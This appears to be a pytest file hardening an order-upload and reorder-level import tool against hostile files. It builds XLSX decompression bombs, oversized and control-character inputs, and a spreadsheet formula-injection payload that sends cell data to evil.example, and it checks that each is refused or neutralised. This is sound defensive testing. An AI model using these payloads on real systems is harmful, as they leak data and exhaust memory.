"""Issue 22: hostile files (order uploads, reorder levels): a clear refusal naming what and where, in bounded
time and memory, or a correct result. Each input is the one the issue lists, made small where the size
itself is not the point (the probe's full-size figures: bench/bench_hostile.py, docs/hardening.md)."""

from __future__ import annotations

import io
import json
import os
import time
import zipfile
from pathlib import Path

import pytest

from actions.commands import upload_orders
from actions.order_file import COLUMNS, MAX_CELL_CHARS, FileRejected, parse_orders, read_order_file, template
from actions.reorder import export_levels, import_file, import_levels
from actions.roles import Actor
from exports.xlsx_reader import MAX_EXPANDED, XlsxRefused, check_archive
from figures import reorder
from services.settings import Settings
from store.schema import session
from tests.conftest import suite_database

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPERATOR = Actor("olga", "operator")


def workbook(sheet_data: bytes, shared: bytes | None = None, dimension: str = "A1:V2") -> bytes:
    """A minimal XLSX whose first sheet holds `sheet_data` (and a shared-strings part when given)."""
    shared_type = f"{REL}/sharedStrings"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
                   'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                   'officedocument.spreadsheetml.sheet.main+xml"/>'
                   + ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                      'officedocument.spreadsheetml.sharedStrings+xml"/>' if shared else "")
                   + "</Types>")
        z.writestr("_rels/.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                   f'relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" '
                   'Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook {NS} xmlns:r="{REL}"><sheets><sheet name="o" sheetId="1" '
                   'r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/'
                   f'package/2006/relationships"><Relationship Id="rId1" Type="{REL}/worksheet" '
                   'Target="worksheets/sheet1.xml"/>'
                   + (f'<Relationship Id="rId2" Type="{shared_type}" Target="sharedStrings.xml"/>' if shared else "")
                   + "</Relationships>")
        z.writestr("xl/worksheets/sheet1.xml", f'<worksheet {NS}><dimension ref="{dimension}"/><sheetData>'.encode()
                   + sheet_data + b"</sheetData></worksheet>")
        if shared:
            z.writestr("xl/sharedStrings.xml", shared)
    return out.getvalue()


def header_row() -> bytes:
    cells = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % c.encode() for c in COLUMNS)
    return b'<row r="1">' + cells + b"</row>"


def one_order_csv(**values: str) -> bytes:
    header, example = template("csv").decode().splitlines()
    row = dict(zip(header.split(","), example.split(","), strict=True)) | values
    return (",".join(COLUMNS) + "\n" + ",".join(row[c] for c in COLUMNS) + "\n").encode()


def timed_parse(data: bytes, fmt: str) -> tuple[float, list[str]]:
    started = time.perf_counter()
    try:
        errors = [str(e) for e in parse_orders(data, fmt).errors]
    except FileRejected as exc:
        errors = [f"file: {exc}"]
    return time.perf_counter() - started, errors


# --- XLSX bombs -------------------------------------------------------------------------------------------

def test_a_sheet_declared_16384_columns_wide_and_a_million_rows_tall_is_refused_fast() -> None:
    # Before: read-only openpyxl padded every row to XFD and filled every gap (over 100 s of CPU).
    data = workbook(header_row() + b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
                    dimension="A1:XFD1048576")
    elapsed, errors = timed_parse(data, "xlsx")
    assert errors == [("file: the sheet has more than 10,001 rows (blank rows count): delete the empty rows below "
                      "the orders, or split the file")]
    assert elapsed < 5


def test_a_shared_strings_bomb_is_refused_before_openpyxl_opens_it() -> None:
    # Before: openpyxl read the whole part into memory (a 3.3 MB file: 1.84 GB of memory).
    count = MAX_EXPANDED // 17 + 1  # each <si><t>a</t></si> is 17 bytes
    sst = f'<sst {NS} count="{count}">'.encode() + b"<si><t>a</t></si>" * count + b"</sst>"
    data = workbook(header_row(), shared=sst)
    assert len(data) < 1_000_000
    elapsed, errors = timed_parse(data, "xlsx")
    assert len(errors) == 1 and errors[0].startswith("file: the workbook expands to 67 MB; at most 64 MB")
    assert elapsed < 2


def test_a_part_that_expands_more_than_100_times_is_refused() -> None:
    data = workbook(header_row() + b'<row r="2"><c t="inlineStr"><is><t>' + b"a" * 8_000_000 + b"</t></is></c></row>")
    with pytest.raises(XlsxRefused, match=r"part xl/worksheets/sheet1.xml expands [0-9,]+ times \(at most 100\)"):
        check_archive(data)


def test_not_a_zip_is_refused_by_name() -> None:
    _elapsed, errors = timed_parse(b"PK\x03\x04 not really", "xlsx")
    assert errors[0].startswith("file: the file is not a readable .xlsx workbook")


def test_the_template_still_reads() -> None:
    batch = parse_orders(template("xlsx"), "xlsx")
    assert batch.errors == [] and len(batch.orders) == 1


# --- sizes checked before reading --------------------------------------------------------------------------

def test_a_3_gb_file_is_refused_after_reading_5_mb(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.truncate(3 * 1024**3)  # sparse: 3 GB long, no disk used
    with pytest.raises(FileRejected, match="the limit is 5 MB"):
        read_order_file(path)


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="needs /dev/zero")
def test_dev_zero_is_refused_not_a_memory_error(tmp_path: Path) -> None:
    link = tmp_path / "zero.csv"
    link.symlink_to("/dev/zero")
    settings = Settings(opsdash_db=suite_database(tmp_path / "x.db"), qargo_base_url="http://127.0.0.1:9")
    out, err = io.StringIO(), io.StringIO()
    assert upload_orders(link, settings, out, err) == 2
    assert err.getvalue() == f"{link}: the file has more than 5 MB; the limit is 5 MB: split it into smaller batches\n"


# --- values inside order files ---------------------------------------------------------------------------

@pytest.mark.parametrize(("column", "value"), [("goods_quantity", "1e999999"), ("goods_weight_kg", "1e999999"),
                                              ("goods_volume_m3", "-1e999999"), ("goods_quantity", "9" * 30)])
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_huge_number_in_an_order_file_is_a_row_error_in_well_under_half_a_second(column, value, fmt) -> None:
    data = one_order_csv(**{column: value})
    if fmt == "json":
        header, row = data.decode().splitlines()
        data = json.dumps([dict(zip(header.split(","), row.split(","), strict=True))]).encode()
    elapsed, errors = timed_parse(data, fmt)
    assert elapsed < 0.5
    first_row = 2 if fmt == "csv" else 1  # the CSV header is row 1; JSON rows count from 1
    assert len(errors) == 1 and errors[0].startswith(f"row {first_row}, {column}: "), errors
    assert "out of range" in errors[0] or "must not be negative" in errors[0]


def test_a_131k_character_field_names_its_line_in_csv_and_its_row_and_column_in_json() -> None:
    _elapsed, errors = timed_parse(one_order_csv(planning_instructions="x" * 131_073), "csv")
    assert errors == ["file: the CSV is malformed at line 2: field larger than field limit (131072)"]
    header, row = one_order_csv().decode().splitlines()
    order = dict(zip(header.split(","), row.split(","), strict=True)) | {"customer_reference": "y" * 131_073}
    _, errors = timed_parse(json.dumps([order]).encode(), "json")
    assert errors == [f"row 1, customer_reference: is 131,073 characters long; at most {MAX_CELL_CHARS:,}"]


@pytest.mark.parametrize("value", ["Gh\x00ent", "Ghent\x1b[2J"])
def test_a_control_character_is_refused_with_row_and_field_never_sent(value: str) -> None:
    _, errors = timed_parse(one_order_csv(pickup_city=value), "csv")
    code = f"U+{ord(value[2] if value[2] == chr(0) else chr(27)):04X}"
    assert len(errors) == 1 and errors[0].startswith(f"row 2, pickup_city: holds a control character ({code})")


def test_a_header_only_csv_says_so_and_exits_1(tmp_path: Path) -> None:
    path = tmp_path / "orders.csv"
    path.write_bytes(template("csv").splitlines()[0] + b"\n")
    settings = Settings(opsdash_db=suite_database(tmp_path / "x.db"), qargo_base_url="http://127.0.0.1:9")
    out, err = io.StringIO(), io.StringIO()
    assert upload_orders(path, settings, out, err) == 1
    assert err.getvalue() == "file, -: the file has no orders: only a header, or only blank rows\n"
    assert out.getvalue() == "0 valid orders, 1 errors\n"


# --- reorder levels --------------------------------------------------------------------------------------

@pytest.fixture
def store(tmp_path: Path):
    with session(suite_database(tmp_path / "levels.db")) as db:
        yield db


@pytest.mark.parametrize(("csv_line", "problem"), [
    ("NUT,,1e999999", "line 2: reorder_level: '1e999999' is out of range"),
    ("NUT,,5,1e999999", "line 2: lead_time_days: '1e999999' is out of range"),
    ("NUT,,-1e999999", "line 2: reorder_level: '-1e999999' is out of range"),
    ("NU\x00T,,5", "line 2: product_code holds a control character (U+0000)"),
    ("N" + "U" * 300 + "T,,5", "line 2: product_code is 302 characters long; at most 200"),
    ("NUT,,5," + "9" * 131_073, "line 2: the CSV is malformed (field larger than field limit (131072))"),
])
def test_reorder_import_refuses_what_it_cannot_store_exactly(store, csv_line: str, problem: str) -> None:
    started = time.perf_counter()
    with pytest.raises(reorder.ReorderLevelError) as refused:
        import_levels(store, OPERATOR, f"product_code,warehouse,reorder_level,lead_time_days\n{csv_line}\n".encode())
    assert time.perf_counter() - started < 0.5
    assert len(refused.value.problems) == 1 and refused.value.problems[0].startswith(problem)
    assert store.execute("SELECT count(*) FROM reorder_levels").fetchone()[0] == 0


def test_reorder_export_neutralises_a_formula_and_the_import_reads_it_back(store, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    csv_text = f'product_code,warehouse,reorder_level\n"{formula.replace(chr(34), chr(34) * 2)}",,5\n'
    assert import_levels(store, OPERATOR, csv_text.encode()) == 1
    exported = export_levels(store, OPERATOR)
    assert exported.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,5,'
    path = tmp_path / "levels.csv"
    path.write_text(exported)
    assert import_file(store, OPERATOR, path) == 1
    assert store.execute("SELECT product_code FROM reorder_levels").fetchall() == [(formula,)]


def test_reorder_import_of_a_3_gb_file_reads_5_mb(store, tmp_path: Path) -> None:
    path = tmp_path / "levels.csv"
    with path.open("wb") as handle:
        handle.truncate(3 * 1024**3)
    with pytest.raises(reorder.ReorderLevelError, match="larger than 5 MB"):
        import_file(store, OPERATOR, path)
